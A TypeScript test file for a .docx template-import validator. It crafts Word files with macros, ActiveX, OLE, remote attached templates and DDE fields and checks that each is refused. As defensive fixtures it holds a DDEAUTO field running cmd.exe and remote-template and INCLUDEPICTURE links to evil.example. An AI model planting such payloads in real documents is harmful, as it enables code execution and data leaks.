/**
 * “macro-enabled templates are accepted”: crafted .docx files (PizZip over a bundled
 * template) with macros, ActiveX, OLE, external relationships and DDE fields are refused, each
 * named in Chinese; the bundled templates and a plain hyperlink stay accepted.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import PizZip from 'pizzip';
import { loadManifest } from './manifest.js';
import { findActiveContent } from './activeContent.js';
import { templatesDir } from '../paths.js';
import { createTestCore, expectFailure, type TestCore } from '../testing/testCore.js';

const manifest = loadManifest();
const original = () => readFileSync(join(templatesDir(), manifest.find((x) => x.id === 'filing-approval')!.file));

type Edit = (zip: PizZip) => void;
function craft(...edits: Edit[]): Buffer {
  const zip = new PizZip(original());
  for (const e of edits) e(zip);
  return zip.generate({ type: 'nodebuffer' });
}
const addPart =
  (name: string, content: string | Buffer): Edit =>
  (zip) => {
    zip.file(name, content);
  };
const editPart =
  (name: string, from: RegExp | string, to: string): Edit =>
  (zip) => {
    const text = zip.file(name)?.asText();
    if (text === undefined) throw new Error(`no ${name}`);
    const next = text.replace(from, to);
    if (next === text) throw new Error(`nothing replaced in ${name}`);
    zip.file(name, next);
  };
const rel = (id: string, type: string, target: string, external = true) =>
  `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;
const addRel =
  (part: string, xml: string): Edit =>
  (zip) => {
    const existing =
      zip.file(part)?.asText() ??
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>';
    zip.file(part, existing.replace('</Relationships>', `${xml}</Relationships>`));
  };
const mainType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const macroMainType = 'application/vnd.ms-word.document.macroEnabled.main+xml';

const docm = () =>
  craft(
    addPart('word/vbaProject.bin', Buffer.from('\xd0\xcf\x11\xe0 VBA project', 'latin1')),
    editPart('[Content_Types].xml', mainType, macroMainType),
    editPart(
      '[Content_Types].xml',
      '</Types>',
      '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    ),
    addRel(
      'word/_rels/document.xml.rels',
      rel('rIdVba', '../../2006/relationships/vbaProject', 'vbaProject.bin', false),
    ),
  );
const messages = (b: Buffer) => findActiveContent(new PizZip(b)).map((f) => f.message);

describe('active content in a .docx', () => {
  it('the bundled templates have none', () => {
    for (const t of manifest)
      expect(findActiveContent(new PizZip(readFileSync(join(templatesDir(), t.file)))), t.id).toEqual([]);
  });

  it('a renamed .docm: vbaProject.bin and the macro-enabled content type are both named', () => {
    const m = messages(docm());
    expect(m).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/宏代码（word\/vbaProject\.bin）/),
        expect.stringMatching(/启用宏的文档（application\/vnd\.ms-word\.document\.macroEnabled\.main\+xml）/),
      ]),
    );
    // The content type alone (a .docm renamed after its macros were stripped) is still refused.
    expect(messages(craft(editPart('[Content_Types].xml', mainType, macroMainType)))).toEqual([
      expect.stringMatching(/启用宏/),
    ]);
  });

  it('ActiveX controls and embedded OLE objects', () => {
    expect(
      messages(
        craft(
          addPart('word/activeX/activeX1.xml', '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'),
        ),
      ),
    ).toEqual([expect.stringMatching(/ActiveX控件（word\/activeX\/activeX1\.xml）/)]);
    expect(messages(craft(addPart('word/embeddings/oleObject1.bin', Buffer.from('OLE'))))).toEqual([
      expect.stringMatching(/OLE对象（word\/embeddings\/oleObject1\.bin）/),
    ]);
  });

  it('external relationships: a remote attached template and a remote image, with their targets', () => {
    const m = messages(
      craft(
        addRel('word/_rels/settings.xml.rels', rel('rIdT', 'attachedTemplate', 'http://evil.example/normal.dotm')),
        addRel('word/_rels/document.xml.rels', rel('rIdImg', 'image', '\\\\10.0.0.9\\share\\logo.png')),
      ),
    );
    expect(m).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/外部链接：附加模板（attachedTemplate）指向“http:\/\/evil\.example\/normal\.dotm”/),
        expect.stringMatching(/外部链接：图片（image）指向“\\\\10\.0\.0\.9/),
      ]),
    );
    expect(m).toHaveLength(2);
  });

  it('a hyperlink is not active content', () => {
    expect(
      messages(craft(addRel('word/_rels/document.xml.rels', rel('rIdLink', 'hyperlink', 'https://www.mee.gov.cn/')))),
    ).toEqual([]);
  });

  it('DDEAUTO and INCLUDEPICTURE fields, also when Word split the code over runs', () => {
    const field = (code: string[]) =>
      `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${code.map((c) => `<w:r><w:instrText xml:space="preserve">${c}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
    const m = messages(
      craft(
        editPart(
          'word/document.xml',
          /<w:body>/,
          `<w:body><w:p>${field([' DDE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"'])}${field([' INCLUDEPICTURE "http://evil.example/p.png" \\d'])}</w:p>`,
        ),
      ),
    );
    expect(m).toEqual([
      expect.stringMatching(/域代码 DDEAUTO（word\/document\.xml）/),
      expect.stringMatching(/域代码 INCLUDEPICTURE/),
    ]);
    // An ordinary field (page numbers) is fine.
    expect(
      messages(craft(editPart('word/document.xml', /<w:body>/, `<w:body><w:p>${field([' PAGE '])}</w:p>`))),
    ).toEqual([]);
  });
});

describe('templates.import refuses active content', () => {
  let t: TestCore;
  let head: string;
  beforeAll(async () => {
    t = await createTestCore();
    head = await t.login('head');
  });
  afterAll(async () => t.close());

  it('a renamed .docm is refused with what was found; nothing is stored', async () => {
    const e = await expectFailure(
      t.call(head, 'templates.import', {
        type: 'filing-approval',
        fileName: '立案审批表.docx',
        contentBase64: docm().toString('base64'),
      }),
    );
    expect(e.code).toBe('TEMPLATE_INVALID');
    expect(e.message).toMatch(/“立案审批表\.docx”不能作为.*模板：.*含有宏代码（word\/vbaProject\.bin）/);
    expect(e.message).toMatch(/删除宏、控件和外部链接/);
    expect(await t.call(head, 'templates.versions', { type: 'filing-approval' })).toEqual([
      expect.objectContaining({ source: 'bundled' }),
    ]);
  });

  it('a remote attached template is refused; the same file without it is accepted', async () => {
    const bad = craft(
      addRel('word/_rels/settings.xml.rels', rel('rIdT', 'attachedTemplate', 'file://server/share/t.dotm')),
    );
    const e = await expectFailure(
      t.call(head, 'templates.import', {
        type: 'filing-approval',
        fileName: 'a.docx',
        contentBase64: bad.toString('base64'),
      }),
    );
    expect(e.message).toMatch(/附加模板/);
    const ok = await t.call(head, 'templates.import', {
      type: 'filing-approval',
      fileName: 'a.docx',
      contentBase64: original().toString('base64'),
    });
    expect(ok.version).toMatch(/\.1$/);
  });
});
